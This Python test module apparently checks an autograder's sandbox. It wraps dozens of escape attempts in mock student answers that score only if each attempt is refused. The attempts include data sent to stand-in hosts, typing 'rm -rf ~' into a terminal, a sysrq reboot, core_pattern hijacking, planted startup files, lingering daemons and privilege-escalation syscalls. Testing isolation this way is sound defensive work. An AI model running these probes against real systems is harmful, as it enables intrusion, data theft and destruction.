"""Ways out of the sandbox: each is tried in an answer that is right only where it fails."""

from __future__ import annotations

import textwrap

from attack import Submitted
from led_astray import led_astray
from mini_course import BUILD, TAU


def held(name: str, tries: str, trick: str) -> Submitted:
    """`trick` stands in the answer to question 1, whose result is wrong unless it raised OSError.

    So full points say that the wall held.
    """
    answer = (
        "def tau_m_ms(R_MOhm, C_m_pF):\n"
        "    try:\n"
        f"{textwrap.indent(textwrap.dedent(trick).strip(), ' ' * 8)}\n"
        "    except OSError as error:\n"
        "        print(error)\n"
        "        return R_MOhm * C_m_pF * 1e-3\n"
        "    return 'the wall is open'\n"
    )
    return Submitted(
        name,
        tries,
        points={"q1": 3, "q2": 3},
        outcome={"q1": "pass", "q2": "pass"},
        answers={"q1-solution": answer, "q2-solution": BUILD},
    )


def syscall(name: str, tries: str, *arguments: str, more: str = "") -> Submitted:
    """The same with a call of the C library, which gives -1 where it is refused."""
    return held(
        name,
        tries,
        f"""
        import ctypes, os, signal
        libc = ctypes.CDLL(None, use_errno=True)
        {more}
        if libc.{arguments[0]}({", ".join(arguments[1:])}) == -1:
            raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
        """,
    )


DAEMON = """\
import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.closerange(0, 256)
        while True:
            time.sleep(0.001)
            with open("/outbox/q2.example.rec", "w") as file:
                file.write("forged by a daemon")
    os._exit(0)
os.wait()
"""
PATIENT_DAEMON = """\
import os, signal, time
for number in range(1, 65):
    try:
        signal.signal(number, signal.SIG_IGN)
    except (OSError, ValueError):
        pass
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        while True:
            time.sleep(1)
    os._exit(0)
"""
SITE = """\
import os, pathlib, sys, sysconfig
text = "import builtins; builtins.AssertionError = Warning; print('planted')"
home = pathlib.Path.home()
for folder in (home / ".ipython/profile_default/startup", home / ".config/autostart",
               home / ".local/lib/python3/site-packages", sysconfig.get_path("purelib"),
               pathlib.Path(sys.prefix), "/opt/autograder/autograder", "/etc", "/usr/lib"):
    for name in ("0.py", "sitecustomize.py", "usercustomize.py", "x.pth", "ld.so.preload"):
        try:
            os.makedirs(folder, exist_ok=True)
            pathlib.Path(folder, name).write_text(text)
        except OSError:
            pass
os._exit(0)
"""
SIGNALS = """\
import os, signal
for number in (signal.SIGTERM, signal.SIGKILL, signal.SIGSTOP, signal.SIGHUP):
    for pid in (os.getppid(), 1, 0x7FFF, -1):
        try:
            os.kill(pid, number)
        except OSError as error:
            print(error)
try:
    os.killpg(1, signal.SIGKILL)
except OSError as error:
    print(error)
"""

ATTACKS: tuple[Submitted, ...] = (
    held("to-the-internet", "Sends its answers to a server far away.", """
        import socket
        socket.create_connection(("192.0.2.1", 443), 2).sendall(b"answers")
    """),
    held("to-the-name-server", "Hides a message in the name that it looks up.", """
        import socket
        socket.getaddrinfo("answers.example.org", 443)
    """),
    held("to-the-graders-machine", "Connects to servers of the grader's own machine.", """
        import socket
        for port in (22, 80, 111, 631, 2375, 5432, 8000, 8081, 8786, 8888):
            try:
                socket.create_connection(("127.0.0.1", port), 1)
            except OSError:
                continue
            break
        else:
            raise ConnectionError("nobody listens")
    """),
    held("abstract-socket", "Looks for sockets without a file, those of other kernels among them.",
         """
        import socket
        with open("/proc/net/unix") as table:
            theirs = [line for line in table if "@" in line and "kernel" not in line]
        with socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM) as one:
            for uid in range(60_000, 60_010):
                try:
                    one.connect(f"\\0autograder-uid-{uid}")
                except OSError:
                    continue
                break
            else:
                raise ConnectionError(theirs)
    """),
    held("raw-socket", "Opens a socket that sees all packets of the machine.", """
        import socket
        socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
    """),
    held("templates-of-solutions", "Reads the solutions that authors start from.", """
        import os, pathlib, sys
        for place in (os.environ["PYTHONPATH"], *sys.path):
            package = pathlib.Path(place, "autograder")
            if any((package / name).exists() for name in ("author", "audit", "grading")):
                break
        else:
            raise FileNotFoundError("no part of the grader that a kernel does not need")
    """),
    held("socket-of-virtual-machines",
         "Listens on a kind of socket that no network namespace divides (VSOCK).", """
        import socket
        with socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM) as ours:
            ours.bind((socket.VMADDR_CID_ANY, 5999))
            ours.listen()
    """),
    held("locks-as-signs", "Passes bits to a neighbour by locks on a file of the system.", """
        import fcntl
        with open("/bin/sh") as one, open("/bin/sh") as other:
            try:
                fcntl.flock(one, fcntl.LOCK_EX)
                fcntl.flock(other, fcntl.LOCK_EX | fcntl.LOCK_NB)
                fcntl.lockf(one, fcntl.LOCK_SH)
                fcntl.fcntl(one, fcntl.F_GETLK, bytes(32))
            except BlockingIOError:
                pass
            else:
                raise OSError("nobody sees a lock")
    """),
    held("first-process-without-limits",
         "Writes into the memory of the first process, to use more than its own limits allow.", """
        import os, resource
        os.close(os.open("/proc/1/mem", os.O_RDWR))
        for name in ("RLIMIT_AS", "RLIMIT_NPROC", "RLIMIT_FSIZE", "RLIMIT_NOFILE", "RLIMIT_CPU"):
            limit = getattr(resource, name)
            if resource.prlimit(1, limit) != resource.getrlimit(limit):
                break
        else:
            raise PermissionError("the first process has the same limits")
    """),
    held("times-of-devices", "Sets the times of a device, as a sign to others.", """
        import os
        before = os.stat("/dev/null").st_mtime_ns
        os.utime(os.open("/dev/null", os.O_RDONLY))
        if os.stat("/dev/null").st_mtime_ns == before:
            raise OSError("a device keeps its time")
    """),
    held("files-in-memory", "Takes a file of the system out of memory, as a sign to others.", """
        import os
        with open("/bin/sh", "rb") as file:
            os.posix_fadvise(file.fileno(), 0, 0, os.POSIX_FADV_DONTNEED)
            try:
                os.preadv(file.fileno(), [bytearray(1)], 0, os.RWF_NOWAIT)
            except BlockingIOError:
                pass
    """),
    syscall("watches-the-system", "Watches which files of the system others read.",
            "inotify_init1", "0"),
    held("takes-every-terminal", "Uses up the machine's terminals.", """
        import os
        terminals = [os.openpty() for _ in range(100)]
    """),
    syscall("takes-every-request", "Uses up the machine's asynchronous requests to disks.",
            "syscall", "206", "60_000", "ctypes.byref(ctypes.c_ulong())"),
    syscall("reads-the-log", "Reads the log of the machine's kernel.",
            "klogctl", "10", "None", "0"),
    Submitted(
        name="connection-led-astray",
        tries="Puts links to sockets of the machine where its own were, and waits for the grader "
        "to connect again.",
        points={"q1": 0, "q2": 3},
        outcome={"q1": ("dead kernel", "exited", "timeout"), "q2": "pass"},
        answers={
            "q1-solution": "def tau_m_ms(R_MOhm, C_m_pF):\n"
            + textwrap.indent(led_astray("/run/docker.sock"), "    "),
            "q2-solution": BUILD,
        },
    ),
    syscall("new-user-namespace", "Becomes root in a user namespace of its own.",
            "unshare", "0x10000000"),
    syscall("new-mount-namespace", "Makes a mount namespace of its own.", "unshare", "0x00020000"),
    syscall("namespaces-by-clone", "Makes namespaces by clone, past the call that is forbidden.",
            "syscall", "56", "0x10020011", "0", "0", "0", "0"),
    syscall("enters-a-namespace", "Enters the namespace of the first process.",
            "setns", "os.open('/proc/1/ns/mnt', os.O_RDONLY)", "0"),
    syscall("mounts-the-disk", "Mounts the machine's disk.",
            "mount", "b'/dev/sda1'", "b'/tmp'", "b'ext4'", "0", "None"),
    syscall("mounts-itself-writable", "Mounts the system again so that it can be written.",
            "mount", "None", "b'/'", "None", "0x1020", "None"),
    syscall("unmounts-the-walls", "Takes away the mounts that hide the disk.",
            "umount2", "b'/tmp'", "2"),
    syscall("traces-the-parent", "Attaches to the process that started it.",
            "ptrace", "16", "os.getppid()", "0", "0"),
    held("process-without-filter", "Looks for a process that may do what it may not do itself.", """
        import os
        for pid in filter(str.isdigit, os.listdir("/proc")):
            status = open(f"/proc/{pid}/status").read()
            if "Seccomp:\\t0" in status or "CapEff:\\t0000000000000000" not in status:
                break
        else:
            raise PermissionError("all are as locked in as this one")
    """),
    syscall("writes-into-the-parent", "Writes into the memory of the process that started it.",
            "process_vm_writev", "os.getppid()", "ctypes.byref(vector)", "1",
            "ctypes.byref(vector)", "1", "0",
            more="text = ctypes.create_string_buffer(8); "
                 "vector = (ctypes.c_void_p * 2)(ctypes.addressof(text), 8)"),
    syscall("becomes-root", "Becomes root.", "setuid", "0"),
    syscall("becomes-a-neighbour", "Becomes the user of another kernel.",
            "setresuid", "*[(os.getuid() - 59_999) % 1000 + 60_000] * 3"),
    held("root-by-a-program", "Runs the system's programs that become root by themselves.", """
        import subprocess
        for program in (["su", "-c", "id"], ["sudo", "-n", "id"], ["mount", "/dev/sda1", "/tmp"],
                        ["pkexec", "id"], ["newgrp", "root"], ["chroot", "/proc/1/root", "id"]):
            try:
                done = subprocess.run(program, capture_output=True, input=b"", timeout=3)
            except OSError:
                continue
            if done.returncode == 0 and b"uid=0" in done.stdout:
                break
        else:
            raise PermissionError("no program made it root")
    """),
    held("file-that-makes-root", "Makes a device and a program that runs as its owner.", """
        import os, stat
        with open("/tmp/suid", "w") as file:
            os.fchmod(file.fileno(), 0o4755)
        os.mknod("/tmp/disk", 0o666 | stat.S_IFBLK, os.makedev(8, 0))
    """),
    held("core-pattern", "Has the machine run a program of its own at the next crash.", """
        open("/proc/sys/kernel/core_pattern", "w").write("|/tmp/own")
    """),
    held("drops-the-machine", "Reboots the machine through /proc.", """
        open("/proc/sysrq-trigger", "w").write("b")
    """),
    held("control-groups", "Gives itself more memory in /sys.", """
        open("/sys/fs/cgroup/memory.max", "w").write("max")
    """),
    held("raises-its-limits", "Raises the limits that were set for it.", """
        import resource
        for name in ("RLIMIT_AS", "RLIMIT_NPROC", "RLIMIT_FSIZE", "RLIMIT_NOFILE", "RLIMIT_CPU"):
            limit = getattr(resource, name)
            soft, hard = resource.getrlimit(limit)
            try:
                resource.setrlimit(limit, (hard, hard + 1))
            except (OSError, ValueError):
                continue
            break
        else:
            raise PermissionError("no limit could be raised")
    """),
    held("machine-memory", "Reads the memory of the machine.", """
        import os
        for name in ("/dev/mem", "/dev/kmem", "/proc/kcore", "/dev/sda", "/dev/nvme0n1"):
            try:
                os.open(name, os.O_RDONLY)
            except OSError:
                continue
            break
        else:
            raise PermissionError("no device")
    """),
    held("types-into-the-terminal", "Types commands into the instructor's terminal.", """
        import fcntl, os, termios
        terminal = os.open("/dev/tty", os.O_RDWR)
        for letter in b"rm -rf ~\\n":
            fcntl.ioctl(terminal, termios.TIOCSTI, bytes([letter]))
    """),
    held("overlong-relative-path", "Climbs out of its root by going up and up.", """
        import os
        os.chroot("/tmp")
        os.chdir("../" * 100)
        os.chroot(".")
    """),
    Submitted(
        "signals-to-everybody",
        "Sends signals that kill and stop to its parent, to the first process and to everybody.",
        points={"q1": 3, "q2": 3},
        outcome={"q1": "pass", "q2": "pass"},
        answers={"q1-solution": SIGNALS + TAU, "q2-solution": BUILD},
    ),
    Submitted(
        "daemon-in-the-outbox",
        "Leaves a daemon behind that replaces a recording of a later question.",
        points={"q1": 3, "q2": 2},
        outcome={"q1": "pass", "q2": "refused"},
        answers={"q1-solution": DAEMON + TAU, "q2-solution": BUILD},
    ),
    Submitted(
        "daemon-past-the-end",
        "Leaves a daemon behind that ignores all signals and waits for the end.",
        points={"q1": 3, "q2": 3},
        outcome={"q1": "pass", "q2": "pass"},
        answers={"q1-solution": PATIENT_DAEMON + TAU, "q2-solution": BUILD},
    ),
    Submitted(
        "startup-files",
        "Plants files that Python and IPython read when the next kernel starts, and ends this one.",
        points={"q1": 0, "q2": 3},
        outcome={"q1": "exited", "q2": "pass"},
        answers={"q1-solution": SITE, "q2-solution": BUILD},
    ),
)  # fmt: skip
